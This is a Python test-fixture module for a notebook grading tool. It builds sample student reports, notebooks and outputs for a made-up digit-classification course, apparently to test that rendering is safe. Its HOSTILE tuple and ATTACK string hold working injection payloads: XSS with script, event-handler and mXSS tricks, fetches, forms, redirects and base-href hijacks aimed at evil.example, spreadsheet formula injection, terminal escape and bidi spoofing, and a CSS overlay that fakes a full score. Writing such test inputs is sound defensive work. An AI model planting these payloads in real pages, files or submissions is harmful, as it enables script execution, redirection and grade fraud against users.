"""Reports of a made-up class: every verdict, status, layer row and curve, and texts that mean harm."""

from __future__ import annotations

import base64
import hashlib
import struct
import zlib
from dataclasses import replace

import nbformat

from grader.evidence import CellError, CellRun, CellStatus, Provenance, Status
from grader.judge import for_student  # noqa: F401 - one of the samples
from grader.mark import Mark, Marks
from grader.marking import digest, with_marks
from grader.report import (
    Answer,
    Criterion,
    Curve,
    ExerciseScore,
    Finding,
    LayerRow,
    ModelSummary,
    Report,
    SubmissionId,
    Verdict,
)  # fmt: skip

ENVIRONMENT = {"python": "3.11.9", "tensorflow": "2.21.0", "keras": "3.15.1", "numpy": "2.4.0", "grader": "0.1.0"}

HOSTILE = (
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "\x1b[2J\x1b[31mred\x1b[0m\x07",
    "\x9b31mC1\x9c",
    "\u202egnp.exe\u202c",
    "zero\u200bwidth\ufeff",
    '=HYPERLINK("http://evil.example")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\uff1d1",
    "| a | b |\n|---|---|\n@everyone #1 [x](javascript:alert(1))",
    "</style></title></script><script>alert(1)</script>",
    "[bold red]markup[/] [link=http://evil.example]x[/link]",
    "]]><x/>",
    "\x00\x0b\ufffe",
    "a\ud800b",
    "${jndi:x} {{7*7}} {% raw %}",
)

LAYERS = (
    LayerRow(expected="Input((784,))", expected_shape="(None, 784)", expected_parameters=0,
             received="Input((784,))", received_shape="(None, 784)", received_parameters=0),
    LayerRow(expected="Dense(512, relu)", expected_shape="(None, 512)", expected_parameters=401920,
             received="Dense(256, relu)", received_shape="(None, 256)", received_parameters=200960,
             same=False, first_difference=True),
    LayerRow(received="Dropout(0.5)", received_shape="(None, 256)", received_parameters=0, same=False),
    LayerRow(expected="Dense(10, softmax)", expected_shape="(None, 10)", expected_parameters=5130,
             received="Dense(10, softmax)", received_shape="(None, 10)", received_parameters=2570, same=False),
)  # fmt: skip

CURVES = (
    Curve(metric="accuracy", values=(0.88, 0.941, 0.955, 0.961, 0.9655), lower=(0.915, 0.96, 0.972, 0.98, 0.985),
          upper=(0.932, 0.971, 0.983, 0.99, 0.993)),
    Curve(metric="loss", values=(0.42, 0.2, None, 0.14, 0.12), lower=(0.24, 0.1, 0.06, 0.04, 0.03),
          upper=(0.29, 0.13, 0.09, 0.06, 0.05)),
)  # fmt: skip


def finding(exercise="network", check="layers", verdict=Verdict.PASSED, points=2.0, max_points=2.0, **more):
    """One finding with a title from its names unless given."""
    more.setdefault("title", f"The {exercise} has the right {check}")
    return Finding(exercise=exercise, check=check, verdict=verdict, points=points, max_points=max_points, **more)


def findings():
    """One of each verdict, with layers, curves, hidden and claimed ones."""
    return (
        finding("data", "shape", title="The training images are flat vectors", cell=2, message="Shape is (60000, 784)."),
        finding("data", "scale", title="Pixels are scaled to 0–1", verdict=Verdict.PARTIAL, points=0.5, max_points=1,
                cell=2, message="The training images are scaled, the test images are not.",
                expected="values from 0 to 1", received="train 0 to 1, test 0 to 255",
                hint="Divide the test images by 255 as well.", subject="`test_images`, as it was when cell 4 ended"),
        finding("network", "layers", title="The network has the reference's layers", verdict=Verdict.FAILED, points=0,
                cell=3, message="The first hidden layer has 256 units instead of 512, and there is one layer too many.",
                expected="Dense(512, relu) → Dense(10, softmax)",
                received="Dense(256, relu) → Dropout(0.5) → Dense(10, softmax)",
                hint="Look at the first marked row of the table.", layers=LAYERS,
                subject="`net`, because it was trained on 60,000 rows for 5 epochs"),
        finding("network", "count", title="The network has 407,050 parameters", verdict=Verdict.SKIPPED, points=0,
                max_points=1, message="Not looked at, because “The network has the reference's layers” failed."),
        finding("training", "epochs", title="Trained for 5 epochs", cell=4, max_points=1, points=1,
                provenance=Provenance.CLAIMED),
        finding("training", "accuracy", title="Test accuracy is within reach of the reference's",
                verdict=Verdict.FAILED, points=0, cell=4, curves=CURVES,
                message="0.9655 is below 0.9741, the bound that the reference misses less than once in 1,000 runs.",
                expected="at least 0.9741", received="0.9655",
                flag="Above the band in epoch 1: trained on test rows?"),
        finding("training", "figure", title="The curves are plotted", verdict=Verdict.BROKEN, points=1, max_points=1,
                message="The check itself failed: KeyError: 'val_loss'. This costs no points."),
        finding("training", "secret", title="Accuracy holds on the hidden rows", verdict=Verdict.FAILED, points=0,
                max_points=1, hidden=True, message="SECRET: the hidden rows were 5 % worse."),
    )  # fmt: skip


def cells():
    """A root cause with two followers, one timeout, one that never ran."""
    trace = (
        "Traceback (most recent call last):\n"
        "  Cell In[5], line 1, in <module>\n    network.compile(lr=0.1)\n"
        "TypeError: compile() got an unexpected keyword argument 'lr'"
    )
    return (
        CellRun(index=2, seconds=1.2),
        CellRun(index=3, seconds=0.2),
        CellRun(index=4, seconds=21.5),
        CellRun(index=6, seconds=0.1, status=CellStatus.ERROR, error=CellError(
            name="TypeError", message="compile() got an unexpected keyword argument 'lr'", traceback=trace)),
        CellRun(index=7, status=CellStatus.ERROR, follows_from=6, error=CellError(
            name="NameError", message="name 'history' is not defined")),
        CellRun(index=8, status=CellStatus.ERROR, follows_from=7, error=CellError(
            name="NameError", message="name 'acc' is not defined")),
        CellRun(index=9, seconds=300, status=CellStatus.TIMEOUT, limit="300 s for one cell"),
        CellRun(index=10, status=CellStatus.NOT_RUN, cut_bytes=2_000_000),
    )  # fmt: skip


def models():
    """A graded one, one of the same name that was not, and one that couldn't be rebuilt."""
    return (
        ModelSummary(model=1, names=("model",), class_name="Sequential", cell=3, parameters=407050, epochs=0),
        ModelSummary(model=2, names=("net", "model"), class_name="Functional", cell=3, parameters=203530, epochs=5,
                     graded_as=("network",), why="trained on 60,000 rows for 5 epochs, as the exercise asks"),
        ModelSummary(model=3, class_name="MyNet", cell=4, epochs=1, why="its class can't be traced"),
    )  # fmt: skip


def report(student="ada", **more):
    """The richest report: an instructor's, with everything in it."""
    found = more.pop("findings", findings())
    exercises = (
        ExerciseScore(exercise="data", title="Load and prepare the images", points=2.5, max_points=3),
        ExerciseScore(exercise="network", title="Build the network", points=0, max_points=3),
        ExerciseScore(exercise="training", title="Train it for 5 epochs", points=2, max_points=5),
    )
    settings = {
        "assignment": "mnist_dense",
        "title": "Handwritten digits with a dense network",
        "submission": SubmissionId(
            student=student,
            file=f"{student}.ipynb",
            sha256=hashlib.sha256(student.encode("utf-8", "surrogatepass")).hexdigest(),
        ),
        "status": Status.STUDENT_ERROR,
        "reason": "3 cells stopped with an error",
        "score": 4.5,
        "max_score": 11.0,
        "exercises": exercises,
        "findings": found,
        "models": models(),
        "cells": cells(),
        "notes": ("Cell 7: an absolute path was replaced.", "The output of cell 11 was cut by 2,000,000 bytes."),
        "seeds": (1234,),
        "data_source": "keras",
        "sandbox": "bubblewrap",
        "environment": ENVIRONMENT,
        "seconds": 25.3,
        "peak_memory": 1_288_490_188,
        "hidden_checks": 1,
    }
    return Report(**(settings | more))


def full_marks(student="grace"):
    """Everything passed."""
    found = tuple(
        replace(f, verdict=Verdict.PASSED, points=f.max_points, message="", expected="", received="", hint="",
                layers=(), curves=(), flag="")
        for f in findings()
    )  # fmt: skip
    exercises = tuple(replace(e, points=e.max_points) for e in report().exercises)
    done = (CellRun(index=2, seconds=1.0), CellRun(index=3, seconds=9.0))
    return report(student, findings=found, exercises=exercises, status=Status.GRADED, reason="", score=11.0, cells=done,
                  notes=(), data_source="stand-in", sandbox="landlock", seconds=10.0)  # fmt: skip


WORDS = "It learns by heart."
RUBRIC = (
    Criterion(name="sees", points=1, description="Says which curve turns"),
    Criterion(name="names", points=1, description="SECRETLY overfitting", hidden=True),
)


def waiting(text=WORDS, student="ada"):
    """Full marks but for an answer of 2 points that nobody has read."""
    finding = Finding(
        exercise="why", check="answer", title="Why does it stop?", verdict=Verdict.WAITING, points=0, max_points=2,
        cell=5, answer=Answer(text=text, digest=digest(text), rubric=RUBRIC), message="A human reads this answer.",
    )  # fmt: skip
    base = full_marks(student)
    asked = ExerciseScore(exercise="why", title="Say why", points=0, max_points=2, waiting=2)
    return replace(
        base, findings=(*base.findings, finding), exercises=(*base.exercises, asked), max_score=13, waiting=2
    )


def marked(comment="Which curve?", points=1.0):
    """The same, with a mark of 1 point and a comment."""
    mark = Mark(
        student="ada", exercise="why", points=points, comment=comment, answer=digest(WORDS), marked_by="tutor",
        criteria={"sees": 1.0, "names": 0.0},
    )  # fmt: skip
    return with_marks(waiting(), Marks([mark]))


def bare(student, status, reason):
    """A submission about which nothing is known beyond its status."""
    zero = None if status is Status.MACHINE_ERROR else 0.0
    exercises = tuple(replace(e, points=0.0) for e in report().exercises)
    return report(student, findings=(), exercises=exercises, status=status, reason=reason, score=zero, cells=(),
                  models=(), notes=(), seconds=0.0, peak_memory=0)  # fmt: skip


def hostile(text):
    """Every field that a student can fill says `text`."""
    found = tuple(
        replace(f, title=f.title, message=text, expected=text, received=text, hint=text, subject=text, flag=text,
                layers=tuple(replace(row, received=text, received_shape=text) for row in f.layers))
        for f in findings()
    )  # fmt: skip
    ran = tuple(
        replace(c, error=CellError(name=text, message=text, traceback=text)) if c.error else replace(c, limit=text)
        for c in cells()
    )
    summaries = tuple(replace(m, names=(text,), class_name=text, why=text) for m in models())
    made = report(text, findings=found, cells=ran, models=summaries, reason=text, notes=(text,))
    return replace(made, submission=replace(made.submission, file=f"{text}.ipynb"))


def a_class():
    """Every status, tied names, and one hostile student."""
    return (
        full_marks(),
        report(),
        full_marks("edsger"),
        bare("nobody", Status.NOT_ATTEMPTED, "the notebook is the unchanged template"),
        bare("broken", Status.UNREADABLE, "the file is not JSON (line 1, column 1)"),
        bare("unlucky", Status.MACHINE_ERROR, "the sandboxed worker ended without an answer"),
        report("loop", status=Status.TIMEOUT, reason="cell 9 hit 300 s for one cell"),
        report("hungry", status=Status.OUT_OF_MEMORY, reason="cell 9 hit 4 GiB"),
        report("dead", status=Status.KERNEL_DIED, reason="the kernel died in cell 9"),
        report("王小明", findings=findings()[:2]),
        hostile(HOSTILE[0] + HOSTILE[2] + HOSTILE[4]),
    )


def progress_bar():
    """What Keras 3 prints for one epoch, redrawn 469 times."""
    parts = []
    for step in range(1, 470):
        bar = "━" * (step * 20 // 469)
        line = f"\x1b[1m{step}/469\x1b[0m \x1b[32m{bar}\x1b[0m\x1b[37m\x1b[0m \x1b[1m1s\x1b[0m 2ms/step - accuracy: 0.{step:04d}"
        parts.append("\b" * 80 + "\r" + line)
    return "Epoch 1/1\n" + "".join(parts) + "\n"


def png(width=220, height=120):
    """A small picture, as base64."""
    rows = b"".join(
        b"\x00" + b"".join(bytes((x * 255 // width, y * 255 // height, 150)) for x in range(width))
        for y in range(height)
    )

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    raw = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return base64.b64encode(raw).decode()


def notebook():
    """The notebook that `cells` and `findings` point into, eleven cells."""
    v4 = nbformat.v4
    made = v4.new_notebook()
    made.cells = [
        v4.new_markdown_cell("# Handwritten digits\n\nRead the *data*, build a **network**, train it: $\\sum_i x_i < 1$.\n\n"
                             "| layer | units |\n|---|---|\n| hidden | 512 |\n\n- one\n- two\n\n[Keras](https://keras.io)"),
        v4.new_markdown_cell("## Load and prepare\n\n```python\nx = x / 255\n```"),
        v4.new_code_cell("import keras\nfrom keras.datasets import mnist\n\n(train_images, train_labels), (test_images, test_labels) = mnist.load_data()\n"
                         "train_images = train_images.reshape((60000, 784)).astype('float32') / 255\n"
                         "test_images = test_images.reshape((10000, 784)).astype('float32')", execution_count=1),
        v4.new_code_cell("net = keras.Sequential([\n    keras.layers.Dense(256, activation='relu'),\n    keras.layers.Dropout(0.5),\n"
                         "    keras.layers.Dense(10, activation='softmax'),  # ten digits\n])", execution_count=2),
        v4.new_code_cell("net.compile('rmsprop', 'categorical_crossentropy', ['accuracy'])\nnet.fit(train_images, keras.utils.to_categorical(train_labels), epochs=5, batch_size=128)"),
        v4.new_markdown_cell("## Plot"),
        v4.new_code_cell("net.compile(lr=0.1)"),
        v4.new_code_cell("acc = history.history['accuracy']"),
        v4.new_code_cell("plt.plot(acc)"),
        v4.new_code_cell("while True:\n    pass"),
        v4.new_code_cell("print('never')"),
    ]  # fmt: skip
    return made


def outputs():
    """Ordinary outputs of the graded run: text, a progress bar, a picture, a table, an error."""
    table = "<style>.g-score{display:none}</style><table border=1 class=dataframe><tr><th>units</th></tr><tr><td>512</td></tr></table>"
    return {
        2: [{"output_type": "stream", "name": "stdout", "text": "(60000, 784)\n"}],
        3: [{"output_type": "display_data", "data": {"text/html": table, "text/plain": "units 512"}, "metadata": {}}],
        4: [
            {"output_type": "stream", "name": "stderr", "text": "W0000 TensorFlow says something\n"},
            {"output_type": "stream", "name": "stdout", "text": progress_bar()},
            {"output_type": "display_data", "data": {"image/png": png(), "text/plain": "<Figure>"}, "metadata": {}},
        ],
        6: [{"output_type": "error", "ename": "TypeError", "evalue": "compile() got an unexpected keyword argument 'lr'",
             "traceback": ["\x1b[31mTypeError\x1b[0m: compile() got an unexpected keyword argument 'lr'"]}],
        9: [{"output_type": "stream", "name": "stdout", "text": "".join(f"step {i}\n" for i in range(400))}],
    }  # fmt: skip


ATTACK = (
    "<script>document.title='pwned'; fetch('http://evil.example/')</script>"
    "<img src='http://evil.example/a.png' onerror=\"document.title='pwned'\">"
    "<iframe src='javascript:top.document.title=1'></iframe><form action='http://evil.example/'><input name=a></form>"
    "<a id=link href=\"javascript:document.title='pwned'\">click</a>"
    "<style>body{display:none!important} .g-score{visibility:hidden}</style>"
    "<div class='g-card g-score' id='g-score' style='position:fixed;inset:0;background:#fff'>11/11</div>"
    "<svg onload=\"document.title='pwned'\"><script>alert(1)</script></svg>"
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example/'>"
    "<link rel=stylesheet href='http://evil.example/a.css'><object data='http://evil.example/'></object>"
    "<body onload=alert(1)></section></main></article></div></div></body></html><plaintext>"
)


def hostile_notebook():
    """Every cell type, with the attack in its source, metadata and attachments."""
    v4 = nbformat.v4
    made = v4.new_notebook(metadata={"language_info": {"name": ATTACK, "pygments_lexer": "../../x"}, "title": ATTACK})
    made.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "x": "</script>" + ATTACK}}
    made.cells = [
        v4.new_markdown_cell(ATTACK),
        v4.new_markdown_cell("[a](javascript:alert(1)) ![b](http://evil.example/b.png) ![c](attachment:c.svg) $<script>alert(1)</script>$\n\n```"
                             "html\n" + ATTACK + "\n```",
                             attachments={"c.svg": {"image/svg+xml": ATTACK}}),
        v4.new_code_cell(ATTACK, metadata={"tags": ["\"><script>alert(1)</script>"]}),
        v4.new_code_cell("print('" + ATTACK + "')"),
        v4.new_raw_cell(ATTACK, metadata={"raw_mimetype": "text/html"}),
    ]  # fmt: skip
    return made


def hostile_outputs():
    """Every kind of output, each with the attack, and some that are no outputs at all."""
    kinds = ("text/html", "image/svg+xml", "text/latex", "text/markdown", "application/javascript", "text/plain",
             "image/png", "image/jpeg", "application/json", "text/vnd.mermaid", "application/pdf", "x/y",
             "application/vnd.jupyter.widget-view+json")  # fmt: skip
    shown = [
        {"output_type": "display_data", "data": {kind: ATTACK}, "metadata": {"text/html": {"isolated": True}}}
        for kind in kinds
    ]
    sized = {"output_type": "display_data", "data": {"image/png": png()},
             "metadata": {"image/png": {"width": "1 onload=alert(1)", "alt": ATTACK}, "filenames": {"image/png": ATTACK}}}  # fmt: skip
    streams = [{"output_type": "stream", "name": name, "text": ATTACK} for name in ("stdout", "stderr", ATTACK)]
    error = {"output_type": "error", "ename": ATTACK, "evalue": ATTACK, "traceback": [ATTACK, "\x1b[38;2;1;2;3mx"]}
    odd = [
        {"output_type": ATTACK},
        {},
        {"output_type": "display_data", "data": "x"},
        {"output_type": "stream", "text": 5},
    ]
    return {2: [*shown, sized, *streams, error], 3: odd}
